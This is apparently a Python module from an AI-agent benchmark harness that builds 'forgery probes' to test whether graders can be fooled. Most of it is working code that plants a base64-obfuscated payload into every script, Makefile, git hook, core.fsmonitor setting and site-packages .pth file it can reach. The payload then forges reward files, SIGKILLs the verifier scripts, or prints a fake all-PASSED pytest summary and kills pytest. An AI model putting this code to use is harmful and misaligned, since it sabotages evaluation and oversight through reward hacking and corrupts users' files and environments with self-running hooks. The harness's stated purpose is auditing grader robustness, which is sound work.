"""Forgery probes: code an agent plants so that the *verifier* runs it and forges the verdict.

A forgery probe does not try to solve the task. It plants a small Python payload wherever a
verifier may run code the agent wrote (every program, script and Makefile under the working
directory and the home folder, the hooks and ``core.fsmonitor`` of every git repository there,
a ``.pth`` start-up file in every Python site folder it can write, a ``Makefile`` beside C
sources that have none) and submits. When the verifier later runs any of it, the payload does
what its kind says:

- ``reward-file``: writes ``1`` to ``/logs/verifier/reward.txt`` (and a reward of 1 to
  ``reward.json``), then leaves a process that rewrites them for a while, so that the
  verifier's own write comes first and the forged one last;
- ``kill-verifier``: writes the reward files, then SIGKILLs the verifier script
  (``test.sh``/``run-tests.sh``) before it writes its own verdict;
- ``summary``: prints a forged pytest ``short test summary info`` that lists every test of
  ``/tests`` as PASSED; inside the pytest process it then exits 0 at once (so neither pytest's
  own summary nor its failure status follows), elsewhere it writes the summary to the verifier
  script's output and stops pytest.

The payload fires only outside the planting command (``FORGE_PLANTING`` unset) and, for the
two kinds that act on the verifier, only once a verifier is running (``/logs/verifier``
exists) or when asked to fire at once (``FORGE_NOW`` set: suites whose grader runs outside
the sandbox get the attempt made in the agent's own command too). Suites wrap
`shell_command` or `python_code` in their own action language (`tasks.terminal.suite`,
`tasks.appworld.suite`, `tasks.osworld.suite`) and declare the result as ``forge:KIND``
exploit policies; the audit reports, per task, whether one of them changed the verdict
(`harness.audit.forgery`). The module belongs to no family: every sandboxed family may use
it.
"""

from __future__ import annotations

import base64

__all__ = ["FORGERY_KINDS", "FORGERY_PREFIX", "payload", "payload_line", "planting_script",
           "python_code", "shell_command"]

FORGERY_PREFIX = "forge:"
"""Exploit policies named with this prefix are forgery probes (`harness.audit.forgery`)."""
FORGERY_KINDS = ("reward-file", "kill-verifier", "summary")

_PAYLOAD = r'''
import glob, os, re, signal, sys, time
KIND = %(kind)r
VERIFIERS = (b"test.sh", b"run-tests.sh")

def processes():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                yield int(pid), open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                pass

def write_rewards():
    try:
        os.makedirs("/logs/verifier", exist_ok=True)
    except OSError:
        pass
    for name, text in (("reward.txt", "1\n"), ("reward.json", '{"reward": 1.0}\n')):
        try:
            with open(f"/logs/verifier/{name}", "w") as out:
                out.write(text)
        except OSError:
            pass

def linger():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    for _ in range(400):
        write_rewards()
        time.sleep(0.05)
    os._exit(0)

def summary():
    names = []
    for path in sorted(glob.glob("/tests/**/test*.py", recursive=True)):
        try:
            text = open(path).read()
        except OSError:
            continue
        names += [f"{os.path.basename(path)}::{name}"
                  for name in re.findall(r"^\s*def (test_\w+)", text, re.M)]
    bar = "=" * 20
    return (f"{bar} short test summary info {bar}\n"
            + "".join(f"PASSED {name}\n" for name in names)
            + f"{bar} {len(names) or 1} passed in 0.01s {bar}\n")

def forge():
    if os.environ.get("FORGE_PLANTING"):
        return
    verifying = os.path.isdir("/logs/verifier") or os.environ.get("FORGE_NOW")
    if KIND in ("reward-file", "kill-verifier") and not verifying:
        return
    if KIND == "reward-file":
        write_rewards()
        linger()
    elif KIND == "kill-verifier":
        write_rewards()
        for pid, cmd in processes():
            if any(v in cmd for v in VERIFIERS):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
    elif KIND == "summary":
        text = summary()
        if b"pytest" in open("/proc/self/cmdline", "rb").read():
            os.write(1, text.encode())
            os._exit(0)
        for pid, cmd in processes():
            if any(v in cmd for v in VERIFIERS):
                try:
                    with open(f"/proc/{pid}/fd/1", "w") as out:
                        out.write(text)
                except OSError:
                    pass
        for pid, cmd in processes():
            if b"pytest" in cmd:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        sys.stdout.write(text)
        sys.stdout.flush()
        os._exit(0)

try:
    forge()
except Exception:
    pass
'''

_PLANTER = r'''
import glob, os, site, stat, subprocess
LINE = %(line)r
SHELL = "python3 -c '" + LINE + "' </dev/null"
MAKE = "FORGE_PROBE := $(shell " + SHELL + ")\n"
HOOKS = ("pre-commit", "post-commit", "post-checkout", "post-merge", "pre-push",
         "reference-transaction", "pre-auto-gc", "post-rewrite", "post-index-change")
SKIP = {"node_modules", "__pycache__", "site-packages", "dist-packages", ".cache"}
planted = []

def rewrite(path, text, mode=None):
    try:
        info = os.stat(path)
        with open(path, "w") as out:
            out.write(text)
        os.chmod(path, mode if mode is not None else stat.S_IMODE(info.st_mode))
        planted.append(path)
    except OSError:
        pass

def plant_python(path, text):
    lines = text.splitlines(keepends=True)
    at = 0
    for i, line in enumerate(lines[:40]):
        if line.startswith("#!") and i == 0 or line.lstrip().startswith("from __future__"):
            at = i + 1
    lines.insert(at, LINE + "\n")
    rewrite(path, "".join(lines))

def plant_file(path):
    name = os.path.basename(path)
    try:
        info = os.lstat(path)
        if not stat.S_ISREG(info.st_mode) or info.st_size > 4 << 20:
            return
        head = open(path, "rb").read(4)
    except OSError:
        return
    if head == b"\x7fELF":
        if info.st_mode & 0o111:
            rewrite(path, "#!/bin/sh\n" + SHELL + "\nexit 0\n")
        return
    try:
        text = open(path).read()
    except (OSError, UnicodeDecodeError):
        return
    first = text.split("\n", 1)[0]
    if name.endswith(".py") or first.startswith("#!") and "python" in first:
        plant_python(path, text)
    elif name in ("Makefile", "makefile", "GNUmakefile") or name.endswith(".mk"):
        rewrite(path, MAKE + text)
    elif name.endswith(".sh") or first.startswith("#!"):
        at = len(first) + 1 if first.startswith("#!") else 0
        rewrite(path, text[:at] + SHELL + "\n" + text[at:])

def plant_git(git_dir):
    hooks = os.path.join(git_dir, "hooks")
    os.makedirs(hooks, exist_ok=True)
    for hook in HOOKS:
        path = os.path.join(hooks, hook)
        try:
            with open(path, "w") as out:
                out.write("#!/bin/sh\n" + SHELL + "\nexit 0\n")
            os.chmod(path, 0o755)
            planted.append(path)
        except OSError:
            pass
    monitor = os.path.join(hooks, "fsmonitor-watchman")
    subprocess.run(["git", "--git-dir", git_dir, "config", "core.fsmonitor", monitor],
                   capture_output=True)

def plant_tree(root):
    for folder, dirs, files in os.walk(root):
        if folder.count(os.sep) - root.count(os.sep) >= 6 or len(planted) > 2000:
            dirs[:] = []
            continue
        if ".git" in dirs and os.path.isdir(os.path.join(folder, ".git")):
            plant_git(os.path.join(folder, ".git"))
        dirs[:] = [d for d in dirs if d not in SKIP and d != ".git"]
        makefiles = {"Makefile", "makefile", "GNUmakefile"} & set(files)
        if any(f.endswith(".c") for f in files) and not makefiles:
            path = os.path.join(folder, "Makefile")
            try:
                with open(path, "w") as out:
                    out.write(MAKE + "all:\n\t@true\nclean:\n\t@true\n")
                planted.append(path)
            except OSError:
                pass
        for name in files:
            plant_file(os.path.join(folder, name))

roots = []
for root in (os.getcwd(), "/app", os.path.expanduser("~")):
    root = os.path.realpath(root)
    if os.path.isdir(root) and root != "/" and not any(
            root == r or root.startswith(r + os.sep) for r in roots):
        roots.append(root)
for root in roots:
    plant_tree(root)
folders = set(site.getsitepackages()) | {site.getusersitepackages()}
folders |= set(glob.glob("/usr/lib/python3*/*-packages") + glob.glob(
    "/usr/local/lib/python3*/*-packages"))
for folder in sorted(folders):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "zz_forge_probe.pth"), "w") as out:
            out.write(LINE + "\n")
        planted.append(folder)
    except OSError:
        pass
print(f"forgery probe: planted in {len(planted)} places")
'''


def payload(kind: str) -> str:
    """The Python source the probe of `kind` (one of `FORGERY_KINDS`) plants."""
    if kind not in FORGERY_KINDS:
        raise ValueError(f"unknown forgery kind {kind!r}; expected one of {FORGERY_KINDS}")
    return _PAYLOAD % {"kind": kind}


def payload_line(kind: str) -> str:
    """`payload` as one line of Python with no single quote and no ``$`` (it goes into
    ``.pth`` files, single-quoted shell words and Makefiles)."""
    encoded = base64.b64encode(payload(kind).encode()).decode()
    return f'import base64;exec(base64.b64decode("{encoded}"), {{}})'


def planting_script(kind: str) -> str:
    """A Python program that plants `payload_line(kind)` (see the module docstring); run it
    with ``FORGE_PLANTING=1`` in its environment, so the payload stays quiet while planting."""
    return _PLANTER % {"line": payload_line(kind)}


def shell_command(kind: str, *, now: bool = False) -> str:
    """A bash command that plants the probe of `kind` (and, with `now`, fires its payload at
    once as well)."""
    command = (f"FORGE_PLANTING=1 python3 - <<'FORGE_PROBE'\n{planting_script(kind).strip()}\n"
               "FORGE_PROBE")
    return command + (f"\nFORGE_NOW=1 python3 -c '{payload_line(kind)}'" if now else "")


def python_code(kind: str) -> str:
    """Python statements that plant the probe of `kind` and fire its payload at once (for
    suites whose actions are Python cells)."""
    return (f"import os as _os, subprocess as _subprocess\n"
            f"_subprocess.run(['python3', '-'], input={planting_script(kind).strip()!r}, "
            f"text=True, env={{**_os.environ, 'FORGE_PLANTING': '1'}})\n"
            f"_subprocess.run(['python3', '-c', {payload_line(kind)!r}], "
            f"env={{**_os.environ, 'FORGE_NOW': '1'}})\n")
